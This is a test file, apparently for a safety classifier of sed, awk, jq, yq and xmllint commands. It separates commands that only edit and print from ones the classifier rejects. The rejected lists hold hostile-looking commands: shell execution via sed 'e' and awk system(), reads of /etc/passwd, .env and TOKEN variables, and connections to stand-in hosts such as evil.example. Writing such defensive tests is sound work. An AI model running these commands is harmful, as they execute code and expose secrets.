// Programs that take a program: what of sed, awk and jq only edits and prints is known, whatever stands around it.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { accountOf, doesNotKnow, knows, touchesOf } from '../../../../../support/account-of.ts';

describe('sed', () => {
  knows([
    "sed -n '1,20p' a.txt",
    'sed -n 5p a.txt',
    "sed -n '/start/,/end/p' a.txt",
    "sed 's/a/b/g' a.txt",
    "sed -E 's/(a|b)+/\\1/2g'",
    "sed -e 's|/usr|/opt|' -e '/^#/d' a.txt",
    "sed '/^$/d;s/^ *//' a.txt",
    "sed ':a;N;$!ba;s/\\n/ /g' a.txt",
    "sed '1d;$d' a.txt",
    "sed 's/[^a-z]*$//' a.txt",
    "sed 's/[[:space:]]*$//' a.txt",
    "sed -n '$=' a.txt",
    "sed 'y/abc/xyz/' a.txt",
    "sed '/x/{s/a/b/;p}' a.txt",
    "sed '2q' a.txt",
    "sed '10,+5d' a.txt",
    "sed '0~3d' a.txt",
    "sed '1i header' a.txt",
    "sed -i 's/a/b/' a.txt",
    "sed -i.bak 's/a/b/' a.txt",
    "sed -i '' 's/a/b/' a.txt",
    "sed --in-place=.bak 's/a/b/' a.txt",
    "sed '/x/!d' a.txt",
    "sed 's/w/e/' a.txt",
  ]);

  doesNotKnow([
    "sed 'w out' a.txt",
    "sed 'wout' a.txt",
    "sed '1w out' a.txt",
    "sed -n '/x/w out' a.txt",
    "sed '1,5W out' a.txt",
    "sed 's/a/b/w out' a.txt",
    "sed 's/a/b/gw out' a.txt",
    "sed 's/a/b/e' a.txt",
    "sed 's/.*/id/e'",
    "sed 's/a/b/ge' a.txt",
    "sed 's|a|b|e' a.txt",
    'sed e a.txt',
    "sed '1e id' a.txt",
    "sed '1 e id' a.txt",
    "sed '1!e id' a.txt",
    "sed '{e id' a.txt",
    "sed 'p;e id' a.txt",
    "sed 'p}e id' a.txt",
    "sed 'r /etc/passwd' a.txt",
    "sed '$r .env' a.txt",
    "sed 'R .env' a.txt",
    "sed -e p -e 'w out' a.txt",
    "sed --expression='1e id' a.txt",
    "sed -ne '1e id' a.txt",
    'sed -f script a.txt',
    'sed --file=script a.txt',
    "sed 's/[/]x/w out/' a.txt",
    "sed '/[/]/w out/d' a.txt",
    "sed 's/a/b' a.txt",
    "sed '\\xaxw out' a.txt",
    "sed 's/a/b/;w out' a.txt",
    "sed 'sxaxbxe' a.txt",
    'sed -i s/a/b/ w/home/me/.zshrc',
    'sed -i/tmp/* s/a/b/ a',
    'sed -i../x s/a/b/ a',
    'sed -I.bak s/a/b/ a',
    "sed 'M' a.txt",
    'sed',
  ]);

  it('tells the files it edits in place, and their copies', () => {
    assert.deepEqual(touchesOf("sed -i 's/a/b/' a .env"), ['write a', 'write .env']);
    assert.deepEqual(touchesOf("sed -i.bak 's/a/b/' a"), ['write a', 'write a.bak']);
    assert.deepEqual(touchesOf("sed -i '' 's/a/b/' a"), ['write a']);
    assert.deepEqual(touchesOf('sed -n 1p .env'), ['read .env']);
  });
});

describe('awk', () => {
  knows([
    "awk '{print $1}' a.txt",
    "awk -F: '{print $1, $3}' a.txt",
    "awk -F ',' -v n=3 'NR>n && $2 ~ /x/ {s+=$3} END {print s/NR}' a.txt",
    "awk 'NR==1,NR==5' a.txt",
    "awk '/start/,/end/' a.txt",
    "awk '$3 > 100' a.txt",
    "awk '{ if ($1 > 5) { print $2 } }' a.txt",
    'awk \'{printf "%s\\n", $2}\' a.txt',
    "awk '!seen[$0]++' a.txt",
    "awk 'BEGIN { for (i = 0; i < 3; i++) print i }'",
    'awk \'{ gsub(/a+/, "b"); print }\' a.txt',
    "awk 'length($0) > 80' a.txt",
    "awk '{ a[$1] = a[$1] $2 } END { for (k in a) print k, a[k] }' a.txt",
    "awk 'NF || 1 { print; next }' a.txt",
    "awk '{print $1/2}' a.txt",
    "gawk '{print toupper($0)}' a.txt",
    "awk '{ print }\n/x/ { print 2 }' a.txt",
  ]);

  doesNotKnow([
    'awk \'BEGIN{system("id")}\'',
    'awk \'BEGIN { system ( "id" ) }\'',
    'awk \'{print | "sh"}\' a.txt',
    'awk \'{print $0 |& "sh"}\' a.txt',
    'awk \'{print > "out"}\' a.txt',
    'awk \'{print >> "out"}\' a.txt',
    "awk '{print $1>$2}' a.txt",
    'awk \'{print($1)>"out"}\' a.txt',
    'awk \'{printf "%s",$0 >"out"}\' a.txt',
    'awk \'{print $1,\n$2 > "out"}\' a.txt',
    'awk \'BEGIN{"id"|getline x;print x}\'',
    'awk \'BEGIN{while((getline l < "/etc/passwd")>0)print l}\'',
    'awk \'BEGIN{ARGV[1]="/etc/passwd";ARGC=2}{print}\'',
    'awk \'BEGIN{print ENVIRON["TOKEN"]}\'',
    'gawk \'@load "filefuncs"; {print}\'',
    'gawk \'@include "x"\'',
    'gawk -v f=system \'BEGIN{@f("id")}\'',
    'gawk \'BEGIN{print 1 |& "/inet/tcp/0/evil/80"}\'',
    'awk \'BEGIN{ if (1) /"/ ; system("id") ; x ~ /"/ }\'',
    'awk \'BEGIN{ x++ / system("id") / 2 }\'',
    'awk \'BEGIN{ y = length / system("id") / 2 }\'',
    'awk \'{ /a/ / system("id") / 1 }\' a.txt',
    'awk \'NR==1\n/"/ ; END { system("id"); x ~ /"/ }\' a.txt',
    'awk \'{ x ~ /[/]"/ ; system("id") ; y ~ /"/ }\' a.txt',
    'awk -f prog.awk a.txt',
    'awk --file=prog.awk a.txt',
    'gawk -i inplace {print} a.txt',
    'gawk -e 1 -e 2 a.txt',
    'gawk -l filefuncs 1 a.txt',
    'gawk -o/tmp/x 1 a.txt',
    'gawk -p/tmp/x 1 a.txt',
    'gawk --dump-variables=/tmp/x 1',
    'gawk -D 1',
    'mawk -W exec x',
    'awk',
    "awk 'BEGIN { print \"unclosed }'",
  ]);

  it('tells the files it reads', () => {
    assert.deepEqual(touchesOf("awk -F= '{print $2}' .env"), ['read .env']);
  });
});

describe('jq and its like', () => {
  knows([
    'jq . a.json',
    "jq -r '.a.b[] | select(.c == 1) | .d' a.json",
    "jq --arg name x '.[$name]' a.json",
    "jq -n '{a: 1}'",
    'jq .env a.json',
    "jq 'input, input_filename' a.json",
    'yq .a a.yaml',
    "yq e '.a.b' a.yaml",
    'yq -o=json . a.yaml',
    "xmllint --xpath '//a' a.xml",
    'xmllint --format a.xml',
    'csvcut -c 1,2 a.csv',
  ]);

  doesNotKnow([
    'jq -n env',
    'jq -n $ENV',
    "jq -n '$ENV.TOKEN'",
    'jq -n "env.TOKEN"',
    'jq -n \'"\\(env)"\'',
    'jq \'include "x"; .\' a.json',
    'jq \'import "x" as y; .\' a.json',
    'jq -L /tmp . a.json',
    'jq -f prog.jq a.json',
    'jq --from-file prog.jq a.json',
    'jq -rf prog.jq a.json',
    'jq --arg a',
    'yq -i .a=1 a.yaml',
    'yq -i e .a=1 a.yaml',
    "yq -n 'strenv(TOKEN)'",
    "yq 'env(TOKEN)' a.yaml",
    'yq \'load("/etc/passwd")\' a.yaml',
    'yq \'load_str(".env")\' a.yaml',
    'yq -s .a a.yaml',
    'yq --split-exp .a a.yaml',
    'yq --from-file x a.yaml',
    'xmllint --output out a.xml',
    'xmllint --noent a.xml',
    'xmllint --c14n a.xml',
    'xmllint --xinclude a.xml',
    'xmllint --schema http://evil.example/x a.xml',
    'xmllint --shell a.xml',
  ]);

  it('tells the files it reads, also those of flags', () => {
    assert.deepEqual(touchesOf('jq --slurpfile a .env --rawfile b x . y'), ['read .env', 'read x', 'read y']);
    assert.equal(accountOf('jq').known, true);
  });
});
